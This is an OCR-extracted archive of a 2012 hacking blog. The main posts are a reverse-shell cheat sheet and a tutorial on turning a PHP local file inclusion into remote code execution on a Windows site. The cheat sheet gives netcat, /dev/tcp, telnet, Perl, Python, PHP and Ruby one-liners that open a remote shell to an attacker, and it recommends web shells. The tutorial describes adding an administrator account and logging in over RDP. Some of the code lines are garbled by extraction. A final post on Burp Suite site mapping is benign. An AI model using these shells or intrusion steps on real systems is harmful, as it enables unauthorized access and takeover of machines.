Friday, January 20, 2012


I previously gave you an introduction into NETCAT and how it can be used to do all kinds of neat things, especially for making connections. I showed you how it can be used to spawn a command shell while making BIND connections as well as while making BACK-CONNECT or REVERSE connections. Now in some cases your netcat attempts will simply fail due toone reason or another and you need to be prepared with a few alternative methods to still get the job done. A good friend of mine recently shared a list he put together from posts and comments scatteredacross the net. The list was so good I couldn't help but share so others can beneift from this as well. Here are a few alternative methods you can try when your standard connections from your web based shells or netcat just dont seem to be working.

TARGET: nc 8080 -e /bin/bash
ATTACKER: nc -n -vv -l -p 8080

TARGET: mknod backpipe p && nc 8080 0<backpipe | /bin/bash 1>backpipe
ATTACKER: nc -n -vv -l -p 8080

3. Don’t have NETCAT, then try the /dev/tcp socket method
TARGET: /bin/bash -i > /dev/tcp/ 0<&1 2>&1
ATTACKER: nc -n -vv -l -p 8080

4. Don’t have access to NETCAT or  dev/tcp? We can try using a telnet and backpipe to execute commands, like so:
TARGET: mknodbackpipe p && telnet 8080 0<backpipe | /bin/bash 1>backpipe
ATTACKER: nc -n -vv -l -p 8080

5. Telnet – Plan B method using piped connections
TARGET: telnet 8080 | /bin/bash | telnet 8888
ATTACKER: nc -n -vv -l -p 8080
ATTACKER2: nc -n -vv -l -p 8888

6. Using straight BASH
bash -i >& /dev/tcp/ 0>&1

7. Inline Perlperl -e 'use Socket;$i="";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'

8. Python
python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connec?t(("",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);["/bin/sh","-i"]);'

9. Inline PHP
php -r '$sock=fsockopen("",1234);exec("/bin/sh -i <&3 >&3 2>&3");'

10. Ruby
ruby -rsocket -e'"",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'

11. Using Xterm (if available)
xterm -display

12. A few Web Shells that have some cool connection and bypassing features built into them:
·         Priv8-2012 PHP web based shell which can be downloaded from packetstorm:
o   Might need to review the code for a backdoor near top, be warned!
·         Php-findsock-shell- designed to bypass egres filtering, available here:
·         Weevely- avoid bind shell/reverse shell via console over HTTP communication channel, available here:
·         WeBaCoo – (One of My Favorites) – uses HTTP communication channel and passes commands through cookie parameter. Need to chain commands though due to the nature of it as you cant change directories, available here:
Do you have another method which is not listed here? Please let me know by posting a comment or shooting me a message privately as we would like to build this up to be the best online reference out there.

If thesemethods don’t help you then I am not sure what will. I hope you find this information useful and I hope for at least one person this makes the difference from a mildly successful pentest to an all-outsuccess! Until next time, Enjoy!

Special shout-out to CHEATSON for helping to put this reference material together in one spot!

Monday, January 16, 2012


I have previously shown you several methods for which we can exploit LFI vulnerabilities as well as genaral usage of Burp Suite tool set. I have put together a brief video of one last method I wanted to share with you. The methods used all build upon the previous tutorials only the location is new. We will take advantage of the system shortcuts made available by the /prov/self/fd file system. Once located they can be enumerated to locate log files for potential code injection vector. In the video I will show you an example of this method, sit back and enjoy....



Tuesday, January 10, 2012

BURP SUITE - Part VI: More Fun Exploiting LFI with PHP:// Filters

OK previously I have shown you a few ways you can exploit LFI vulnerabilities. We covered how to gain shell access through /proc/self/environ, how to read source through php://filters , and alsohow to gain command execution through log poisoning technique. Now today I am going to show you one last method which is much less known about and even less documented. I am going to show you how we can exploit LFI vulnerabilities by abusing the php://input filter this time. The php://input filter is designed to handle the data from POST request as its argument. If you follow the link above you will find it described as: (php://input) “is a read-only stream that allows you to read raw data from the request body. In the case of POST requests, it is preferable to use php://input instead of $HTTP_RAW_POST_DATA as it does not depend on special php.ini directives”. We will abuse this feature to execute PHP code thanks to the include() vulnerability we are exploiting (in similar fashion to how the /proc/self/environ method works). I have seen this method included in a few tools and I will admit I had to tear FIMAP apart to truly figure out how it was getting this technique to actually work which is why I want to share this with everyone, as I assume I am not the only one who is unaware of this technique and how it can be implemented to successfully turn Local File Inclusion (LFI)into Remote Code Execution (RCE), most notable but certainly not limited to - Windows targets.  I will show you how it works using Burp Suite so you can more clearly see how the requests are formed and code injected manually, here goes…

·         LFI Vulnerability
·         Burp Suite, cURL, Tamper Data, Live HTTP Headers, or some other means to easily make POST requests and control the data sent with it – I will be using Burp Suite for this write up and curl in the bonus video. If you need help in coming up to speed with Burp Suite you might want to check out some of my other tutorials I have done:
·         Updated HR’s Burp Pack Download, available here:
·         A Brain J

OK, so today I will be using this method against a Windows target to show you that LFI vulnerabilities can be abused on Windows just as badly as they can on a *nix machine – just because we can’t find /etc/passwd doesn’t mean we can get things going, watch and learn my friends. I will assume after all my previous LFIcoverage that you can spot a potential LFI now and know what to look for. We will start from the initial find and work our way to command execution:

OK our initial request for /etc/passwd fails but gives us a few clues that we are up against a Windows machine. This means that /proc/self/environ method is out. You can use “C:\boot.ini” or “C:\WINDOWS\win.ini” as the Windows universal equivalent to /etc/passwd for a simple LFI base file check:

We can then try to find juicy Windows files using my new LFI-WinblowsFileCheck.txt file I added to my Burp Suite download pack (link available at the top and bottom of this tutorial). My new list is especially helpful when the target is also known to be running under XAMPP setup as I personally set things up locally and tested things until I had every possible file I could think of to potentially gain juicy info from.

 In this scenario I was able to find several juicy files which held helpful information, but alas I was not able to successfully gain access to any of the log files. The apache log files caused errors to be thrown which made them unusable and the FTP & Mail log files appear to be on another drive which I can’t successfully access through the LFI. I can use php://filters method to read source code but alas I can only find a few PHP pages even on the site and can’t seem to locate any low hanging fruits by guessing for configuration files L.

Do we give up and move to the next site? Hell no! We never give up and we leave no stone unturned! As we can use php://filters toread source code we will now try one last trick and see if we can abuse another filter which I have yet to introduce you to and that is the php://input filter. This filter is designed to handle data sent via POST request and when we abuse it with our include() vulnerability we can exploit the conditions to turn our LFI into full RCE or Remote Code Execution! In order to get things working we flip our request from a GET request to a POST request. We then replace our file names we have been requesting with php://input and then we place our code below the other header info so it is the data being read by php://input.

Mini-TuT: 101 on GET vs. POST request because you need to understand how to flip the request properly or it wont work correctly, so here is the minimum you need to understand and get started:
HTTP is a request-response protocol, with many built in methods which allow it make all types of requests. The two most common of those methods are GET and POST requests and is all I will focus on for now...

A GET request fetches data from the web server. Here's an example request:

                GET /index.html?username=joesomebody&passwd=supersecret HTTP/1.1
                User-Agent: Mozilla/4.0

You don’t need to include anything else as everything for the GET request is inthe URL itself and header details. This is where the variance becomes notable as POST requests do send additional data to the web server. Here is an example of a POST request:

                POST /login.php HTTP/1.1
                Host: www.
                User-Agent: Mozilla/4.0
                Content-Length: 39
                Content-Type: application/x-www-form-urlencoded


You can clearly see a difference in the structure of the request. We place a POST instead of a GET obviously with the URL pointing to the page we want to send our data to. We then have our Hostheader to identify the target site so that when paired with the URL page we get a working link. The User-Agent field is fairly self-explanatory, although it is worth mentioning you can spoof this or even use to inject code in some cases (see some of my other LFI tutorials for examples). We then define the Content-Length which is a count of the characters used in our data stream. The default Content-Type should be set to application/x-www-form-urlencoded followed by a blank line and then you can insert your data to send. POST requests typically alter the web server in some way whereas GETrequests do not.

Back to the main TuT…

As in many of my othertutorials I like to start small and then work our way up to full shell access so we begin by just checking to see if we can we use injected code to echo some text to the page (Hood3dRob1n in this case), yourrequest should look similar to this:
NOTE: we use the PHP chr() function to send ascii characters one at a time for the echo command

OK, we can clearly see our text being displayed meaning our echo command was successfully injected. Again this is done because php://input takes the data as an argument and since we are inside of the include() vulnerability it causes the code to become executable. We can now modify our code to inject whatever code you like, just remember in this case it is a Windows environment so commands need to be adjusted accordingly. We can quickly check our user status by issuing a quick “whoami” request, like so:

As you can see we are running in this case as the NT AUTHORITY/SYSTEM user, which is the Windows equivalent of root user. Now we can issue a systeminfo command to see what we have gotten into:

And then follow up with DIR commands and take a look around…

 Now since it is a Windows machine we may or may not be able to use WGET or CURL to get a shell on the target site. If you can’t do this then we will try to use our RCE ability to add a user and then use RDP to simply login and do our thing. In this scenario I can’t load a shell so we will do it the long way. We first check to see who is in the administrator group already with a quick windows command:OK, so now we need to get our name on the list. We use some more Windows command line kung-fu and add a user to the machine, like so:

Now we check the cool guy list once more to confirm we are now on the list:

w00t – we made to the cool guy group! Ok we are almost done…now that we have admin level user created we will grant them access to the Remote Desktop Users group so we can use RDP to get full GUI access to the site. In order to do this we again alter our commands slighty and add our new user to the group like so:

Now that we have added a user we need to add them to the administrator group so we can get on the cool guy list, we do this by adjusting our command slightly as so:

OK, now we need to open up a command prompt or terminal on our local machine and issue a quick PING request to the target site so we can confirm the IP address to which we will RDP into, should appear something similar to the following (point is to get the sites IP):

 Once we have the IP address for our Windows target we can simply open up our RDP connection manager and connect using our new account credentials we made in the steps outlined above:

At this point you have pretty much got full control thanks to wonderful old Windows. If things fail due to RDP Service not being enabled you can try to inject this command and to enable it:And if you’re too impatient you can simply restart the machine yourself all though this may cause a few red flags to go off and may also possible lead to data loss on the remote target so use with some caution…

You can use your RDP GUI access to do what you want now or you can do it all from the LFI command execution one by one, whatever floats your boat. This sums up my coverage of the LFI php://input filter technique and how it can be used to exploit Windows systems (It can also be used against *nix but I mainly engage this technique against Windows targets). I hope you have enjoyed this tutorial and as always and until next time – Enjoy!

...I should have up in next 24hrs...

Updated HR’s Burp Pack Download, available here:

Monday, January 9, 2012


Today I will show you a quick overview of how you can quickly map the web infrastructure for a target website using the tools built into Burp Suite. I probably should have covered this in the beginning as it is a fairly basic task however I seem to get a lot of questions on it, so here we are. We will be focusing on the Target & Spider tabs for this tutorial. I will lay down the steps from setup to run and try to keep it in the usual easy to follow format, here goes…

We will start off as usual by configuring our browser to use proxy on localhost ( and point it to port 8080 unless you have changed the default settings for Burp to listen on another port (as I have in example below – using 8181 as apache already running on 8080).

Once ourbrowser is properly configured we can fire up Burp Suite by double clicking the jar file. Now we can start capturing our requests from the browser and playing with them within Burp. I like to turn the Interceptor off on the proxy tab so all requests flow as normal and can be easily picked up on the proxy history tab if/when/as needed. Now in order to map the target site we will first need to fire a request in our browser to the root directory of the site (i.e. Once it is run we pick up in Burp, turn off the Interceptor and get ready to start mapping things. You willnow navigate to the proxy history tab to review the actual request that was sent. You will right click on the request and choose to “add item to scope”. In doing this we will be defining it as one of our target sites.

I know you can see the “spider from here” and I know it is tempting to jump ahead but if you want to have clear and easy to interpret results then hang tight for just one minute... Now that we have added the target site to our in-scope items we will further define how our spider and target settings will need to be for best results. We start with the Scope sub-tab under the Target tab. Here we can define what is to be considered in-scope. If you’re working on multiple sites or if you know two domains are linked you can add them in here as needed. This will beused to help us filter the results out from all of the other sites which will get drawn from crawling & spidering due to ads, photos, etc. You can add them as outlined above or you can copy and paste your URL links directly into this tab as needed. I should also call out that you can define or set the items to exclude from being considered in-scope. This is helpful in avoiding pages which might cause the crawler/spider to be logged out and thus result in incomplete results. The 